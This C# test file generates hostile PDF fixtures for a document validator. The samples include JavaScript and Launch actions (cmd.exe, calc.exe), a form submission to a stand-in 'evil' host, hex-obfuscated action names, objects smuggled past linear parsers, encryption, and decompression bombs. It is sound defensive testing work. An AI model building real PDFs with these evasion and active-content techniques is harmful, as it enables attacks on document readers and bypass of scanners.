using Portfolio.Domain.Evidence;
using Portfolio.Tests.Support;

namespace Portfolio.Tests.Infrastructure.Evidence.Hostile;

/// <summary>PDFs that run, start, send, hide or encrypt something, or decompress to a huge size.</summary>
internal static class HostilePdf
{
    private const string Script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";

    private static readonly string[] InCatalog =
    [
        $"/OpenAction{Script}", $"/AA<</WC{Script}>>", "/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", "/OpenAction<</S/Launch/F(cmd.exe)>>", "/OpenAction<</S/SubmitForm/F(http://evil)>>",
        "/OpenAction<</S/ImportData/F(a)>>", "/OpenAction<</S/GoToE/T<<>>>>", "/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>", "/AcroForm<</XFA[(a) 4 0 R]>>", "/AF[<</Type/Filespec/EF<</F<</Type/EmbeddedFile>>>>>>]",
        "/OpenAction<</S/J#61vaScript/J#53(x)>>", "/Open#41ction<</S/#4a#61#76#61#53#63#72#69#70#74/JS(x)>>", "/A[[[[<</B[<</S/Launch>>]>>]]]]", "/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(x)>>>>",
    ];

    private static readonly string[] AsObject =
    [
        "<</Type/Annot/Subtype/FileAttachment/FS<<>>>>", "<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>", $"<</Type/Annot/Subtype/Link/A{Script}>>", "<</Type/Annot/Subtype/Widget/AA<</K<</S/JavaScript/JS 4 0 R>>>>>>",
        "<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>/Type/EmbeddedFile>>", "<</S/Rendition/JS(x)>>", "[<</S/JavaScript>>]", "<</S/Launch/Win<</F(calc.exe)>>>>",
    ];

    public static IEnumerable<HostileFile> All() => [.. Active(), .. Locked(), .. Broken(), .. Exploding()];

    private static IEnumerable<HostileFile> Active()
    {
        foreach (var said in InCatalog)
        {
            yield return Pdf($"a catalog with {said}", PdfBytes.Saying(said));
            yield return Pdf($"a compressed object with {said}", PdfBytes.Compressed(string.Empty, $"<<{said}>>"));
        }

        foreach (var said in AsObject)
        {
            yield return Pdf($"an object {said}", PdfBytes.Saying(string.Empty, PdfBytes.Text(said)));
            yield return Pdf($"a compressed object {said}", PdfBytes.Compressed(string.Empty, said));
            yield return Pdf($"an object that no table names, {said}", Inserted(PdfBytes.Text($"9 0 obj\n{said}\nendobj\n")));
        }

        yield return Pdf("a script inside a stream, reached by the table of contents", Smuggled("<</S/JavaScript/JS(app.alert(1))>>"));
        yield return Pdf("a stream that acts inside a stream, reached by the table of contents", Smuggled("<</Length 3/S/JavaScript>>stream\nabc\nendstream"));
        yield return Pdf("a stream with a name in disguise inside a stream", Smuggled("<</Length 3/A<</S/#4aavaScript/J#53 4 0 R>>>>\nstream\nabc\nendstream"));
        yield return Pdf("a stream with a text that hides its end inside a stream", Smuggled("<</Length 3/T(>>stream)/S/JavaScript/JS 4 0 R>>\nstream\nabc\nendstream"));
    }

    private static IEnumerable<HostileFile> Locked()
    {
        const string Encrypt = "/Encrypt<</Filter/Standard/V 1/R 2/O(12345678901234567890123456789012)/U(12345678901234567890123456789012)/P -4>>/ID[(1234567890123456)(1234567890123456)]";
        yield return Pdf("a password", PdfBytes.With(Encrypt, PdfBytes.Catalog, PdfBytes.Pages, PdfBytes.Page));
        yield return Pdf("a lock nobody knows", PdfBytes.With("/Encrypt<</Filter/Strange/V 99>>", PdfBytes.Catalog, PdfBytes.Pages, PdfBytes.Page));
    }

    private static IEnumerable<HostileFile> Broken()
    {
        var whole = PdfBytes.Saying(string.Empty);
        yield return Pdf("no page", PdfBytes.Of(PdfBytes.Catalog, PdfBytes.Text("<</Type/Pages/Kids[]/Count 0>>")));
        yield return Pdf("pages that hold themselves", PdfBytes.Of(PdfBytes.Catalog, PdfBytes.Text("<</Type/Pages/Kids[2 0 R]/Count 1>>")));
        yield return Pdf("no catalog", PdfBytes.Of(PdfBytes.Text("<<>>")));
        yield return Pdf("a header only", PdfBytes.Text("%PDF-1.7\n%%EOF"));
        yield return Pdf("a version of no PDF", [.. "%PDF-9"u8, .. whole[6..]]);
        yield return Pdf("a header a word late", [.. "x\n"u8, .. whole]);
        yield return Pdf("a header behind a page of blanks", [.. Enumerable.Repeat((byte)'\n', 2000), .. whole]);
        yield return Pdf("no end mark", [.. whole[..^6]]);
        yield return Pdf("no table of contents", [.. PdfBytes.Text("%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n%%EOF\n")]);
        yield return Pdf("a table of contents beyond the end", Replaced(whole, "startxref\n", "startxref\n9999"));
        yield return Pdf("text after the end mark", [.. whole, .. "hello"u8]);
    }

    private static IEnumerable<HostileFile> Exploding()
    {
        yield return Pdf("300 MB of nothing in a kilobyte", PdfBytes.Compressed(new string(' ', 300 * 1_048_576)));
        yield return Pdf("millions of small things in a kilobyte", PdfBytes.Compressed(string.Empty, "[" + string.Concat(Enumerable.Repeat("[]", 2_500_000)) + "]"));
        yield return Pdf("a million brackets within brackets", PdfBytes.Of(PdfBytes.Catalog, PdfBytes.Pages, PdfBytes.Page, PdfBytes.Text(new string('[', 1_000_000))));
        yield return Pdf("dictionaries within dictionaries", PdfBytes.Of(PdfBytes.Catalog, PdfBytes.Pages, PdfBytes.Page, PdfBytes.Text(string.Concat(Enumerable.Repeat("<</A", 100_000)))));
        yield return Pdf("more pages than anybody reads", ManyPages());
    }

    private static HostileFile Pdf(string what, byte[] content) => new($"a PDF with {what}", EvidenceKind.Document, content);

    private static byte[] ManyPages()
    {
        const int Count = 2100;
        var kids = string.Join(' ', Enumerable.Range(3, Count).Select(i => $"{i} 0 R"));
        return PdfBytes.Of([PdfBytes.Catalog, PdfBytes.Text($"<</Type/Pages/Kids[{kids}]/Count {Count}>>"), .. Enumerable.Repeat(PdfBytes.Page, Count)]);
    }

    private static byte[] Inserted(byte[] added)
    {
        var whole = System.Text.Encoding.Latin1.GetString(PdfBytes.Saying(string.Empty));
        var at = whole.IndexOf("xref", StringComparison.Ordinal);
        var table = whole.IndexOf("startxref\n", StringComparison.Ordinal);
        return [.. PdfBytes.Text(whole[..at]), .. added, .. PdfBytes.Text(whole[at..table]), .. PdfBytes.Text($"startxref\n{at + added.Length}\n%%EOF\n")];
    }

    /// <summary>A linear reader skips the stream; a reader that follows the cross-reference table finds an action in it.</summary>
    private static byte[] Smuggled(string said)
    {
        var hidden = $"5 0 obj\n{said}\nendobj\n";
        var whole = System.Text.Encoding.Latin1.GetString(PdfBytes.Of(PdfBytes.Catalog, PdfBytes.Pages, PdfBytes.Page, PdfBytes.Stream("<</Length {0}>>", PdfBytes.Text(hidden)), PdfBytes.Text("null")));
        var wrong = whole.LastIndexOf("5 0 obj", StringComparison.Ordinal);
        var right = whole.IndexOf("5 0 obj", StringComparison.Ordinal);
        return Replaced(PdfBytes.Text(whole), $"{wrong:D10} 00000 n", $"{right:D10} 00000 n");
    }

    private static byte[] Replaced(byte[] content, string from, string to) => PdfBytes.Text(System.Text.Encoding.Latin1.GetString(content).Replace(from, to, StringComparison.Ordinal));
}
